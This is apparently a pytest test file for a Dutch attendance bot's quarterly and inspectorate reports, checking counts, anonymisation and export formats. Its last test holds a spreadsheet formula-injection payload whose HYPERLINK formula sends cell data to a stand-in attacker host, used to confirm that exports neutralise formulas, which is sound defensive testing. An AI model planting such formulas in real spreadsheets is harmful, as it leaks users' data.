"""The quarterly overview on a fixed dataset, against figures counted by hand.

Peildatum 15 December 2026 (2026Q4); the previous one is 15 September 2026. In the dataset:
Q2 crosses the quarter boundary (from 1 September), Q3 opened and closed within the quarter, Q5's
exemption changed article (5B until 30 September, then 5A), Q6 moved school (Het Baken → De
Vlinder, by a second import), Q8 ends on the peildatum itself (and so still counts).
"""

from __future__ import annotations

import io
import json
from datetime import date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import time_machine
from openpyxl import load_workbook

from bot.__main__ import main

DATA = Path(__file__).resolve().parents[1] / "data" / "quarterly"
IMPORT_DAY = datetime(2026, 12, 16, 9, 0, tzinfo=ZoneInfo("Europe/Amsterdam"))

ZERO = dict.fromkeys(["A1", "A2", "A2-5A", "A2-5B", "A2-5C", "A2-5D", "B1", "B2"], 0)


def counts(**values: int) -> dict[str, int]:
    return ZERO | {key.replace("_", "-"): value for key, value in values.items()}


@pytest.fixture
def imported(monkeypatch: pytest.MonkeyPatch, database_url: str, tmp_path: Path) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("BOT_LOCALE", "nl")
    first = DATA / "pupils.csv"
    moved = tmp_path / "moved.csv"
    moved.write_text(
        first.read_text().replace(
            "Q6,Fer,Zes,M,2013-06-06,Gouda,Gouda,34CD,Het Baken,VO,zuid,Stichting Bolder",
            "Q6,Fer,Zes,M,2013-06-06,Gouda,Gouda,56EF,De Vlinder,SO,noord,Stichting Kompas",
        )
    )
    with time_machine.travel(IMPORT_DAY, tick=False):
        assert main(["import", str(first)]) == 0
        assert main(["import", str(moved)]) == 0
    return tmp_path


def _json(capsys: pytest.CaptureFixture[str]) -> dict[str, object]:
    capsys.readouterr()
    assert main(["report", "quarterly", "--quarter", "2026Q4", "--format", "json"]) == 0
    return json.loads(capsys.readouterr().out)


def test_every_breakdown_matches_the_hand_count(
    imported: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    report = _json(capsys)

    assert report["peildatum"] == "2026-12-15"
    assert report["vorige_peildatum"] == "2026-09-15"
    assert report["totaal"] == counts(A2=2, A2_5A=2, B1=1, B2=4)
    assert report["met_passend_aanbod"] == counts(B2=1)  # Q2, since 1 October
    assert report["zonder_passend_aanbod"] == counts(A2=2, A2_5A=2, B1=1, B2=3)
    assert report["duur"] == {
        "< 4 weken": 2,  # Q1 (25 days), Q7 (14 days)
        "4 weken - 3 maanden": 1,  # Q5's 5A case, since 1 October
        "3 - 6 maanden": 2,  # Q2, Q6
        "> 6 maanden": 2,  # Q4, Q8
    }
    assert report["nieuw_sinds_vorige_peildatum"] == counts(A1=1, A2=1, A2_5A=1, B1=1, B2=1)
    assert report["beeindigd_sinds_vorige_peildatum"] == counts(A1=1, A2=1, A2_5B=1, B2=1)
    assert report["per_school"] == {
        "De Regenboog (12AB)": counts(A2=1, A2_5A=1, B2=2),
        "De Vlinder (56EF)": counts(B2=1),  # Q6 after moving
        "Het Baken (34CD)": counts(A2=1, A2_5A=1, B2=1),
        "onbekend": counts(B1=1),
    }
    assert report["per_bestuur"] == {
        "Stichting Bolder": counts(A2=2, A2_5A=2, B2=3),
        "Stichting Kompas": counts(B2=1),
        "onbekend": counts(B1=1),
    }
    assert report["per_gemeente"] == {
        "Alphen aan den Rijn": counts(A2=2, A2_5A=2, B2=1),
        "Gouda": counts(B1=1, B2=3),
    }
    assert report["trend"] == [
        {"peildatum": "2026-03-15", "totaal": counts(A2=2, A2_5A=1, A2_5B=1)},
        {"peildatum": "2026-06-15", "totaal": counts(A2=2, A2_5A=1, A2_5B=1, B2=1)},
        {"peildatum": "2026-09-15", "totaal": counts(A2=2, A2_5A=1, A2_5B=1, B2=3)},
        {"peildatum": "2026-12-15", "totaal": counts(A2=2, A2_5A=2, B1=1, B2=4)},
    ]


def test_the_workbook_holds_the_same_figures_cell_by_cell(imported: Path) -> None:
    output = imported / "kwartaal.xlsx"
    assert main(["report", "quarterly", "--quarter", "2026Q4", "--output", str(output)]) == 0

    book = load_workbook(io.BytesIO(output.read_bytes()))
    assert book.sheetnames == [
        "Totaal", "Passend aanbod", "Duur", "Verificatie", "Nieuw en beëindigd", "Per school",
        "Per bestuur", "Per gemeente", "Trend", "Definities",
    ]  # fmt: skip
    verification = [[c.value for c in row] for row in book["Verificatie"].iter_rows()]
    assert verification == [
        ["Verificatie", "Aantal"],
        ["Open dossiers geverifieerd voor de verificatie van 01-12-2026", 0],  # nobody yet
        ["Open dossiers op de peildatum", 7],
    ]
    total = [[cell.value for cell in row] for row in book["Totaal"].iter_rows()]
    # The four categories add up to the number of pupils (7); A2 by article stands apart,
    # as part of A2, so that no column sums to more than there are pupils.
    assert total == [["Categorie", "Aantal"], ["A1", 0], ["A2", 2], ["B1", 1], ["B2", 4],
                     ["Totaal", 7], [None, None], ["Waarvan A2, per artikel", "Aantal"],
                     ["A2-5A", 2], ["A2-5B", 0], ["A2-5C", 0], ["A2-5D", 0]]  # fmt: skip
    assert all(isinstance(row[1], int) for row in total[1:6] + total[8:])  # numbers as numbers
    offers = [[c.value for c in row] for row in book["Passend aanbod"].iter_rows()]
    assert offers[0] == ["Categorie", "Met passend aanbod", "Zonder passend aanbod"]
    assert offers[-1] == ["B2", 1, 3]
    schools = {
        row[0].value: [c.value for c in row[1:]] for row in book["Per school"].iter_rows(min_row=2)
    }
    assert schools["De Vlinder (56EF)"] == [0, 0, 0, 0, 0, 0, 0, 1]
    trend = [[c.value for c in row] for row in book["Trend"].iter_rows(min_row=2)]
    assert [row[0].date() for row in trend] == [
        date(2026, 3, 15), date(2026, 6, 15), date(2026, 9, 15), date(2026, 12, 15),
    ]  # fmt: skip
    assert [row[-1] for row in trend] == [0, 1, 3, 4]  # B2
    definitions = {row[0].value: row[1].value for row in book["Definities"].iter_rows(min_row=2)}
    assert definitions["Peildatum van dit overzicht"] == "15-12-2026"
    assert "python -m bot report" in definitions["Gemaakt door"]
    assert book["Totaal"].column_dimensions["A"].width >= 10
    all_text = " ".join(str(c.value) for sheet in book for row in sheet.iter_rows() for c in row)
    for name in ("Ada", "Hil", "Dia", "Bas", "2014-01-01"):
        assert name not in all_text  # aggregated: no names, no birth dates


def test_csv_and_png(imported: Path, capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()
    assert main(["report", "quarterly", "--quarter", "2026Q4", "--format", "csv"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "peildatum,onderdeel,groep,categorie,aantal"
    assert "2026-12-15,totaal,,B2,4" in lines
    assert "2026-12-15,per_school,De Vlinder (56EF),B2,1" in lines

    png = imported / "kwartaal.png"
    assert (
        main(
            ["report", "quarterly", "--quarter", "2026Q4", "--format", "png", "--output", str(png)]
        )
        == 0
    )
    data = png.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")
    assert (width, height) == (1200, 700)
    assert len(data) > 10_000
    # The chart may travel alone: it names whose pupils, the peildatum, the categories and who
    # made it (drawn on it, and kept in its text chunks, where this test reads them).
    texts = _png_texts(data)
    assert texts["Title"] == "SWV Rijn en Gouwe: leerlingen per categorie op de peildata"
    assert texts["Description"].startswith(
        "Peildatum 15-12-2026, met de drie peildata ervoor. A1 ziek, A2 vrijgesteld, "
        "B1 absoluut verzuim, B2 langdurig relatief verzuim. Gemaakt door "
    )
    assert "(python -m bot report)" in texts["Description"]


def _png_texts(data: bytes) -> dict[str, str]:
    """The tEXt chunks of a PNG."""
    found, position = {}, 8
    while position < len(data):
        length = int.from_bytes(data[position : position + 4], "big")
        kind = data[position + 4 : position + 8]
        body = data[position + 8 : position + 8 + length]
        if kind == b"tEXt":
            key, _, value = body.partition(b"\0")
            found[key.decode("latin-1")] = value.decode("latin-1")
        position += 12 + length
    return found


def test_the_inspectie_registration_is_cumulative_and_anonymous(imported: Path) -> None:
    output = imported / "inspectie.xlsx"
    assert main(["report", "inspectie", "--peildatum", "2026-12-15", "--output", str(output)]) == 0

    book = load_workbook(io.BytesIO(output.read_bytes()))
    rows = [[c.value for c in row] for row in book["Registratie"].iter_rows()]
    assert rows[0] == [
        "Pseudoniem",
        "Categorie",
        "Artikel",
        "Startdatum",
        "Einddatum",
        "Passend aanbod",
        "Geverifieerd op",
    ]
    assert {r[6] for r in rows[1:]} == {None}  # nobody verified yet
    # Q4 (5A), Q8 (ended on the peildatum), Q6, Q2, Q5's 5A exemption, Q3 (closed, 8 weeks).
    # Not: Q1 and Q7 (home less than 4 weeks), Q5's 5B exemption (not 5 onder a).
    assert [(r[1], r[2] or None, r[3].date(), r[5]) for r in rows[1:]] == [
        ("A2", "5A", date(2026, 1, 10), "nee"),
        ("B2", None, date(2026, 5, 1), "nee"),
        ("B2", None, date(2026, 8, 24), "nee"),
        ("B2", None, date(2026, 9, 1), "ja"),
        ("A2", "5A", date(2026, 10, 1), "nee"),
        ("A1", None, date(2026, 10, 5), "nee"),
    ]
    assert all(str(r[0]).startswith("TZ-") for r in rows[1:])
    all_text = " ".join(str(c.value) for sheet in book for row in sheet.iter_rows() for c in row)
    for secret in ("Dia", "Vier", "Q4", "2011-04-04"):
        assert secret not in all_text


def test_a_bad_quarter_is_one_clear_line(
    imported: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    assert main(["report", "quarterly", "--quarter", "2026Q7", "--format", "json"]) == 1
    assert (
        capsys.readouterr().err.strip()
        == "error: --quarter moet eruitzien als 2026Q4 (Q1 tot en met Q4)."
    )


@pytest.mark.parametrize(
    ("today", "coming"),
    [
        (date(2026, 12, 1), date(2026, 12, 15)),
        (date(2026, 12, 15), date(2027, 3, 15)),  # on the day, the next one is coming
        (date(2026, 12, 31), date(2027, 3, 15)),
        (date(2027, 1, 1), date(2027, 3, 15)),
        (date(2027, 6, 14), date(2027, 6, 15)),
        (date(2027, 9, 16), date(2027, 12, 15)),
    ],
)
def test_the_coming_peildatum(today: date, coming: date) -> None:
    from bot.reports.overview import next_peildatum

    assert next_peildatum(today) == coming


def test_the_overview_counts_the_cases_verified_for_the_last_verification() -> None:
    from bot.reports.overview import CaseRecord, inspectie_rows, overview

    def case(pupil: int, verified: date | None, end: date | None = None) -> CaseRecord:
        return CaseRecord(pupil, "B2", None, date(2026, 9, 1), end, None, None, None, None,
                          verified_on=verified)  # fmt: skip

    cases = [
        case(1, date(2026, 11, 17)),  # 14 days before 1 December: counts
        case(2, date(2026, 11, 16)),  # one day earlier: does not
        case(3, None),
        case(4, date(2026, 12, 2), end=date(2026, 12, 10)),  # closed before the peildatum
    ]
    report = overview(cases, date(2026, 12, 15))

    assert (report.verificatiedatum, report.geverifieerd) == (date(2026, 12, 1), 1)
    assert report.as_json()["verificatie"] == {
        "verificatiedatum": "2026-12-01", "geverifieerd": 1, "open": 3,
    }  # fmt: skip
    rows = inspectie_rows(cases, date(2026, 12, 15))
    assert [(r.pseudoniem, r.geverifieerd_op) for r in rows] == [
        ("TZ-000001", date(2026, 11, 17)), ("TZ-000002", date(2026, 11, 16)),
        ("TZ-000003", None), ("TZ-000004", date(2026, 12, 2)),
    ]  # fmt: skip


def test_no_workbook_cell_is_a_formula_whatever_the_names() -> None:
    # A pupil, school or person named like a formula ("=HYPERLINK(…)") stays text in every
    # workbook the bot makes, and a CSV cell cannot start one either.
    from bot.reports.data import PupilLine
    from bot.reports.exports import inspectie_xlsx, overview_csv, overview_xlsx, pupil_list_xlsx
    from bot.reports.overview import CaseRecord, inspectie_rows, overview

    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    day, made = date(2026, 12, 15), datetime(2026, 12, 15, 9, 0)
    case = CaseRecord(1, "B2", None, date(2026, 9, 1), None, None, "=1+1 (12AB)", evil, "@SUM(A1)")
    workbooks = [
        overview_xlsx(overview([case], day), evil, made),
        pupil_list_xlsx([PupilLine(evil, "B2", date(2026, 9, 1), "=1+1", "nee")], day, evil, made),
        inspectie_xlsx(inspectie_rows([case], day), evil, made),
    ]
    for book in workbooks:
        cells = [
            cell
            for sheet in load_workbook(io.BytesIO(book)).worksheets
            for row in sheet.iter_rows()
            for cell in row
        ]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert any(c.value == evil for c in cells)  # kept as typed, as text
    lines = overview_csv(overview([case], day)).splitlines()
    assert not [line for line in lines if ",=" in line or ",@" in line or ",+" in line]
    assert any(",'=1+1 (12AB)," in line for line in lines)
